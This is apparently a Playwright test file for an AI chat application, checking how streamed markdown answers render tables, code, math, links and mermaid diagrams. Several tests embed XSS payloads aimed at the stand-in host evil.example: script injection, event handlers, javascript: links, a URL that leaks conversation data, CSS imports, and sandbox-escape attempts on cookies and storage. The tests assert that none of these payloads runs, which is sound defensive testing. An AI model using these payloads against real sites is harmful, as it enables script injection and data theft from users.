import type { Page, Request } from '@playwright/test';
import { expect, type SluiceApp, test } from './app.fixture.ts';
import { expectAccessible, expectAccessibleInBothThemes } from './expect-accessible.ts';
import { finish, text, waitForRelease } from './fake-upstream/script.ts';

/** Connects the scripted upstream, which says exactly what a test wants to be drawn. */
async function connect(app: SluiceApp): Promise<void> {
  await app.request('profiles.create', {
    name: 'fake',
    kind: 'openai-chat',
    baseUrl: app.fake.url,
    defaultModel: 'm',
  });
  await app.request('settings.set', { values: { defaultProfile: 'fake' } });
  await app.page.reload();
}

async function send(page: Page, message: string): Promise<void> {
  await page.getByTestId('composer-input').fill(message);
  await page.keyboard.press('Enter');
}

async function answer(app: SluiceApp, markdown: string) {
  app.fake.next([text(markdown), finish()]);
  await send(app.page, 'Please');
  const last = app.page.getByTestId('message-assistant').last();
  await expect(last).toHaveAttribute('data-state', 'done');
  return last;
}

/** Every request that leaves for somewhere else than the host of the page. */
function watchRequests(app: SluiceApp): string[] {
  const foreign: string[] = [];
  const own = new URL(app.page.url());
  app.page.context().on('request', (request: Request) => {
    const url = new URL(request.url());
    const isOwn = url.host === own.host && url.pathname !== '/etc/passwd';
    if (!isOwn && url.protocol !== 'data:' && url.protocol !== 'blob:') foreign.push(request.url());
  });
  return foreign;
}

const ATTACKS = `# Attacks

<script>window.hacked = 1; fetch('https://evil.example/script')</script>

<img src=x onerror="window.hacked = 1"> <svg onload="window.hacked = 1"><a xlink:href="javascript:window.hacked=1">x</a></svg>

<iframe src="https://evil.example/frame"></iframe> <style>body { display: none }</style> <meta http-equiv="refresh" content="0;url=https://evil.example/meta">

[plain](javascript:window.hacked=1) [cased](JaVaScRiPt:window.hacked=1) [entity](java&#115;cript:window.hacked=1)
[tab](<java\tscript:window.hacked=1>) [data](data:text/html,<script>window.hacked=1</script>) [file](file:///etc/passwd)
[relative](/etc/passwd) [scheme](//evil.example/scheme) [vb](vbscript:x) [blob](blob:https://evil.example/1)

![leak](https://evil.example/leak.png?conversation=secret) ![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)
[![nested](https://evil.example/nested.png)](javascript:window.hacked=1) ![by reference][leak] ![file](file:///etc/passwd)

[leak]: https://evil.example/reference.png "title' onload='window.hacked=1"

<https://evil.example/auto>

\`\`\`"><script>window.hacked=1</script>
<img src=x onerror="window.hacked = 1">
\`\`\`

\`\`\`html
<script src="https://evil.example/code.js"></script><link rel=stylesheet href=https://evil.example/code.css>
\`\`\`

$\\href{javascript:window.hacked=1}{x}$ $\\url{https://evil.example/math}$ $\\includegraphics{https://evil.example/math.png}$
$\\htmlStyle{background:url(https://evil.example/style)}{x}$ $\\htmlClass{fixed inset-0}{x}$ $\\def\\a{\\a\\a}\\a$ $\\rule{9999em}{9999em}$

| <img src=x onerror="window.hacked = 1"> | [x](javascript:window.hacked=1) |
|---|---|
| ![t](https://evil.example/table.png) | \\<b\\> |

[^x]: <img src=x onerror="window.hacked = 1">
`;

test('[E6-07] nothing in an answer runs, and no request leaves', async ({ app }) => {
  await connect(app);
  const foreign = watchRequests(app);
  const drawn = await answer(app, ATTACKS);
  await expect(drawn.getByTestId('math-failed').first()).toBeVisible();
  await expect(drawn.locator('[data-coloured="true"]').first()).toBeVisible();
  // Long enough for whatever was started to be asked for.
  await app.page.evaluate(() => new Promise((resolve) => requestIdleCallback(resolve)));
  expect(foreign).toEqual([]);
  expect(await app.page.evaluate(() => 'hacked' in window)).toBe(false);
  const { tags, links, handlers, sources } = await drawn.evaluate((element) => {
    const all = [...element.querySelectorAll('*')];
    return {
      tags: [...new Set(all.map((each) => each.tagName.toLowerCase()))],
      links: all.flatMap((each) => each.getAttribute('href') ?? []),
      handlers: all.flatMap((each) => each.getAttributeNames().filter((name) => name.startsWith('on'))),
      sources: all.flatMap((each) => each.getAttribute('src') ?? []),
    };
  });
  expect(tags.filter((tag) => /^(script|iframe|object|embed|style|link|meta|base|form|img)$/.test(tag))).toEqual([]);
  expect(links.filter((href) => !/^https:\/\/evil\.example\//.test(href))).toEqual([]);
  expect(handlers).toEqual([]);
  expect(sources).toEqual([]);
  // What was written is there to be read.
  await expect(drawn).toContainText('<script>window.hacked = 1;');
  await expect(drawn.getByTestId('remote-image').first()).toContainText('evil.example');
  await app.screenshot('answer-attacks');
});

test('[E6-07] a link opens outside; one that hides its place is shown first', async ({ app }) => {
  await connect(app);
  const opened: string[] = [];
  await app.page.context().route('**/*.example/**', (route) => route.fulfill({ body: 'outside' }));
  // The accessibility check opens an empty page of its own.
  app.page.context().on('page', (page) => page.url() !== 'about:blank' && opened.push(page.url()));
  const drawn = await answer(
    app,
    'A [fair one](https://fair.example/a), [bank.example](https://evil.example/b) and [a program](vscode://file/x).',
  );
  test.skip(app.host === 'electron', 'There is no system browser to open there.');
  const popup = app.page.waitForEvent('popup');
  await drawn.getByRole('link', { name: 'fair one' }).click();
  const outside = await popup;
  expect(outside.url()).toBe('https://fair.example/a');
  expect(await outside.evaluate(() => window.opener === null)).toBe(true);
  await outside.close();

  await drawn.getByRole('button', { name: 'bank.example' }).click();
  const dialog = app.page.getByRole('alertdialog');
  await expect(dialog).toContainText('evil.example');
  await expect(dialog).toContainText('https://evil.example/b');
  await app.screenshot('answer-link-confirm');
  await expectAccessible(app);
  await app.page.keyboard.press('Escape');
  await expect(dialog).toHaveCount(0);

  await drawn.getByRole('button', { name: 'a program' }).click();
  await expect(dialog).toContainText('vscode://file/x');
  await expect(dialog.getByRole('button', { name: 'Copy address' })).toBeVisible();
  await app.page.keyboard.press('Escape');
  expect(opened).toHaveLength(1);
});

test('[E6-07] an answer is drawn while it comes, and is the same elements once it is over', async ({ app }) => {
  await connect(app);
  const { page } = app;
  // What stands out in code has a face of its own, which may come when all the rest is there.
  const heldFaces: (() => void)[] = [];
  await page.route('**/ibm-plex-mono-latin-500*', (route) => heldFaces.push(() => void route.continue()));
  app.fake.next([
    text('## Plan\n\nA **bold sta'),
    waitForRelease('rest'),
    text('rt** and [a li'),
    waitForRelease('link'),
    text('nk](https://a.example).\n\n```ts\nconst a = 1;\n'),
    waitForRelease('code'),
    text('```\n\n| A | B |\n|---'),
    waitForRelease('table'),
    text('|---|\n| 1 | 2 |\n\nDone.'),
    finish(),
  ]);
  await send(page, 'Go');
  const drawn = page.getByTestId('message-assistant');
  await expect(drawn.locator('strong')).toHaveText('bold sta');
  await expect(drawn).not.toContainText('**');
  // An answer that begins deeper begins below the page's title all the same.
  await drawn.locator('h2').evaluate((element) => element.setAttribute('data-first', 'yes'));
  app.fake.release('rest');
  await expect(drawn).toContainText('and a li');
  await expect(drawn).not.toContainText('[');
  app.fake.release('link');
  await expect(drawn.getByTestId('code-block')).toContainText('const a = 1;');
  await expect(drawn.getByTestId('code-block')).toHaveAttribute('data-coloured', 'false');
  // The face of code comes with the first of it.
  await expect.poll(() => page.evaluate(() => document.fonts.check('12px "IBM Plex Mono"', 'const'))).toBe(true);
  const before = await drawn.getByTestId('code-block').boundingBox();
  app.fake.release('code');
  await expect(drawn.getByTestId('code-block')).toHaveAttribute('data-coloured', 'true');
  const after = await drawn.getByTestId('code-block').boundingBox();
  expect([after?.width, after?.height]).toEqual([before?.width, before?.height]);
  for (const release of heldFaces) release();
  await expect(drawn.locator('table th')).toHaveCount(2);
  app.fake.release('table');
  await expect(drawn).toHaveAttribute('data-state', 'done');
  await expect(drawn.locator('h2[data-first="yes"]')).toHaveCount(1);
  await expect(drawn.locator('table td')).toHaveText(['1', '2']);
  await expectAccessible(app);
});

test('[E6-07] a long table is drawn where it is looked at, and is found, read out and copied whole', async ({
  app,
}) => {
  test.skip(app.host === 'electron', 'The clipboard of the system is not the test’s to read.');
  await connect(app);
  const { page } = app;
  const COUNT = 900;
  const row = (index: number) => `| row ${index} | ${'some words '.repeat((index % 7) + 1)}| ${index * 7} |`;
  const rows = Array.from({ length: COUNT }, (_, index) => row(index));
  app.fake.next([
    text(`| Name | Words | Number |\n|---|---|---|\n${rows.slice(0, 20).join('\n')}\n`),
    waitForRelease('more'),
    text(`${rows.slice(20).join('\n')}\n\nEnd of it.`),
    finish(),
  ]);
  await send(page, 'Go');
  const drawn = page.getByTestId('message-assistant');
  await expect(drawn.locator('td').first()).toHaveText('row 0');
  await drawn
    .locator('tr')
    .nth(5)
    .evaluate((element) => element.setAttribute('data-first', 'yes'));
  app.fake.release('more');
  await expect(drawn).toHaveAttribute('data-state', 'done');
  // Rows that were there stay the elements they are.
  await expect(drawn.locator('[data-first="yes"]')).toContainText('row 4');
  await page.reload();
  await expect(drawn).toContainText('End of it.');
  const table = drawn.getByRole('table');
  await expect(table).toHaveAttribute('aria-rowcount', String(COUNT + 1));
  expect(await drawn.locator('tr').count()).toBeLessThan(COUNT / 2);
  await expect(drawn.locator('tr').last()).toHaveAttribute('aria-rowindex', String(COUNT + 1));
  const widths = (selector: string) =>
    drawn.locator(selector).evaluateAll((cells) => cells.map((cell) => Math.round(cell.getBoundingClientRect().width)));
  expect(await widths('.answer-table-chunk:last-child tr:last-child td')).toEqual(await widths('th'));
  await expectAccessible(app);
  // A window that was narrow for a while leaves the columns as they were.
  const wide = await widths('th');
  await page.setViewportSize({ width: 480, height: 800 });
  await expect.poll(() => widths('th')).not.toEqual(wide);
  await page.setViewportSize({ width: 1280, height: 800 });
  await expect.poll(() => widths('th')).toEqual(wide);
  await app.screenshot('answer-long-table');

  await page.keyboard.press('ControlOrMeta+f');
  await page.getByTestId('find-input').fill('row 431');
  await expect(page.getByTestId('find-count')).toHaveText('1 of 1');
  await expect(drawn.getByText('row 431', { exact: true })).toBeInViewport();
  await page.keyboard.press('Escape');

  await page.context().grantPermissions(['clipboard-read', 'clipboard-write']);
  await drawn.getByTestId('copy-table').focus();
  await page.keyboard.press('Enter');
  await expect(drawn.getByTestId('copy-table')).toHaveAttribute('aria-label', 'Copied');
  const copied = await page.evaluate(async () => {
    const [item] = await navigator.clipboard.read();
    const read = async (type: string) => (await item?.getType(type))?.text() ?? '';
    return { text: await read('text/plain'), html: await read('text/html') };
  });
  expect(copied.text.split('\n')).toHaveLength(COUNT + 2);
  expect(copied.html.match(/<table/g)).toHaveLength(1);
  expect(copied.html.match(/<tr/g)).toHaveLength(COUNT + 1);
  expect(copied.html).toContain(`<td>row ${COUNT - 1}</td>`);
});

test('[E6-07] code is copied exactly, and the whole answer as it was written', async ({ app }) => {
  test.skip(app.host === 'electron', 'The clipboard of the system is not the test’s to read.');
  await connect(app);
  const { page } = app;
  await page.context().grantPermissions(['clipboard-read', 'clipboard-write']);
  const code = `def f():\n\treturn "a\\tb"\n\n${'# a line that repeats\n'.repeat(120)}end`;
  const markdown = `Text with **bold**.\n\n\`\`\`py\n${code}\n\`\`\`\n\n- [x] done`;
  const drawn = await answer(app, markdown);
  const block = drawn.getByTestId('code-block');
  await expect(block).toHaveAttribute('data-coloured', 'true');
  await block.getByRole('button', { name: 'Copy' }).click();
  await expect(block).toContainText('Copied');
  expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(code);
  await drawn.getByRole('button', { name: 'Copy answer' }).click();
  await expect.poll(() => page.evaluate(() => navigator.clipboard.readText())).toBe(markdown);
  // What is selected is what is seen, lines included.
  const selected = await block.locator('pre').evaluate((element) => {
    getSelection()?.selectAllChildren(element);
    return getSelection()?.toString() ?? '';
  });
  expect(selected.trimEnd()).toBe(code);
  await block.getByRole('button', { name: 'Wrap lines' }).click();
  await expect(block.getByRole('button', { name: 'Wrap lines' })).toHaveAttribute('aria-pressed', 'true');
});

test('[E6-07] nothing breaks the page: wide, long, deep, mixed', async ({ app }) => {
  await connect(app);
  const wide = `|${' column with a name |'.repeat(40)}\n|${'---|'.repeat(40)}\n|${' value |'.repeat(40)}`;
  const big = `\`\`\`ts\n${'const value = compute(1, 2, 3);\n'.repeat(4000)}\`\`\``;
  const drawn = await answer(
    app,
    [
      'x'.repeat(4000),
      `[${'y'.repeat(600)}](https://a.example/${'z'.repeat(900)})`,
      `\`${'c'.repeat(900)}\``,
      wide,
      `${'> '.repeat(60)}deep`,
      Array.from({ length: 60 }, (_, level) => `${'  '.repeat(level)}- level ${level}`).join('\n'),
      'مرحبا ABC 123 שלום עולם',
      `$$\n${'x + '.repeat(200)}y\n$$`,
      big,
      '1'.repeat(3000),
    ].join('\n\n'),
  );
  await expect(drawn).toContainText('too long to be coloured');
  await expect(drawn).toContainText('level 59');
  for (const width of [1280, 600, 480]) {
    await app.page.setViewportSize({ width, height: 800 });
    const overflow = await drawn.evaluate((element) => {
      const box = element.getBoundingClientRect();
      const out = [...element.querySelectorAll('p, li, figure, section, h2, blockquote')].filter(
        (each) => each.getBoundingClientRect().right > box.right + 1,
      );
      return {
        page: document.documentElement.scrollWidth - window.innerWidth,
        out: out.map((each) => each.outerHTML.slice(0, 80)),
      };
    });
    expect(overflow, `${width} px`).toEqual({ page: 0, out: [] });
  }
});

test('[E6-07] money stays money, and formulas are typeset in their place', async ({ app }) => {
  await connect(app);
  const drawn = await answer(
    app,
    'From $20 to $15, where $x^2$ and\n\n$$\n\\frac{a}{b}\n$$\n\nbut $\\nosuchcommand{$ stays.',
  );
  await expect(drawn.getByTestId('math')).toHaveCount(2);
  await expect(drawn.locator('.katex')).toHaveCount(2);
  await expect(drawn).toContainText('From $20 to $15');
  await expect(drawn.locator('math').first()).toBeAttached();
});

const DIAGRAM =
  '```mermaid\nflowchart LR\n  A[Message] --> B{Busy?}\n  B -- yes --> C[Queue]\n  B -- no --> D[Run]\n```';

test('[E6-07] a diagram is drawn in a frame of its own once its block is closed, and shows its source', async ({
  app,
}) => {
  await connect(app);
  const { page } = app;
  app.fake.next([text(DIAGRAM.slice(0, -3)), waitForRelease('close'), text('```\n\nDone.'), finish()]);
  await send(page, 'Draw');
  const drawn = page.getByTestId('message-assistant');
  await expect(drawn.getByTestId('code-block')).toContainText('A[Message]');
  await expect(drawn.locator('iframe')).toHaveCount(0);
  app.fake.release('close');
  await expect(drawn.getByTestId('diagram')).toHaveAttribute('data-drawn', 'true');
  const frame = drawn.frameLocator('iframe');
  await expect(frame.locator('svg')).toContainText('Message');
  await expect(drawn.locator('iframe')).toHaveAttribute('sandbox', 'allow-scripts');
  // Neither side reads the other.
  const handle = await drawn.locator('iframe').elementHandle();
  const inside = await handle?.contentFrame();
  expect(await inside?.evaluate(() => self.origin)).toBe('null');
  const reach = await inside?.evaluate(async () => {
    const tries: Record<string, () => unknown> = {
      parent: () => parent.document.title,
      storage: () => localStorage.length,
      cookie: () => document.cookie,
    };
    const reached = Object.entries(tries).flatMap(([name, attempt]) => {
      try {
        attempt();
        return [name];
      } catch {
        return [];
      }
    });
    const fetched = await fetch('https://evil.example/').then(
      () => ['fetch'],
      () => [],
    );
    return [...reached, ...fetched];
  });
  expect(reach).toEqual([]);
  await drawn.getByRole('button', { name: 'Source' }).click();
  await expect(drawn.getByTestId('code-block')).toContainText('B -- yes --> C[Queue]');
  await drawn.getByRole('button', { name: 'Diagram' }).click();
  await expect(drawn.getByTestId('diagram')).toHaveAttribute('data-drawn', 'true');
  // Another theme draws anew, also one that is left again before its diagram was there.
  for (const colorScheme of ['dark', 'light'] as const) await page.emulateMedia({ colorScheme });
  await expect(drawn.getByTestId('diagram')).toHaveAttribute('data-drawn', 'true');
  await expect(frame.locator('svg')).toContainText('Message');
  app.expectConsoleError(/evil\.example|unsafe-eval|Content Security Policy/);
});

test('[E6-07] a hostile diagram runs nothing and asks for nothing; one that is none says so', async ({ app }) => {
  await connect(app);
  const foreign = watchRequests(app);
  const hostile = [
    '%%{init: {"securityLevel": "loose", "themeCSS": "@import url(https://evil.example/theme.css); *{background:url(https://evil.example/bg)}", "htmlLabels": true}}%%',
    'flowchart LR',
    '  A["<img src=https://evil.example/a.png onerror=parent.hacked=1>"] --> B["<script>parent.hacked=1</script>"]',
    '  C["<iframe src=https://evil.example/f></iframe>"] --> D',
    '  click A href "javascript:parent.hacked=1"',
    '  click B call alert("1")',
    '  style D fill:url(https://evil.example/fill)',
  ].join('\n');
  const drawn = await answer(app, `\`\`\`mermaid\n${hostile}\n\`\`\`\n\n\`\`\`mermaid\nno diagram\n\`\`\`\n\nDone.`);
  const blocks = drawn.getByTestId('code-block');
  await expect(blocks.nth(1).getByTestId('diagram-failed')).toContainText('could not be drawn');
  await expect(blocks.nth(1)).toContainText('no diagram');
  await expect(blocks.first().locator('[data-drawn="true"], [data-testid="diagram-failed"]')).toBeVisible();
  app.expectConsoleError(/evil\.example|Content Security Policy|sandboxed/);
  expect(foreign).toEqual([]);
  expect(await app.page.evaluate(() => 'hacked' in window)).toBe(false);
});

test('[E6-07] a rich answer is accessible and in order (both themes)', async ({ app }) => {
  const { page } = app;
  await page.setViewportSize({ width: 1280, height: 2150 });
  await send(page, '/markdown');
  const drawn = page.getByTestId('message-assistant');
  await expect(drawn).toHaveAttribute('data-state', 'done');
  for (const width of [1280, 600]) {
    await page.setViewportSize({ width, height: 2150 });
    await expect(drawn.locator('[data-coloured="true"]')).toHaveCount(2);
    await expect(drawn.locator('.katex').first()).toBeVisible();
    await expect(drawn.getByTestId('diagram')).toHaveAttribute('data-drawn', 'true');
    await test.step(`${width} px`, () => expectAccessibleInBothThemes(app, `answer-THEME-${width}`));
  }
});
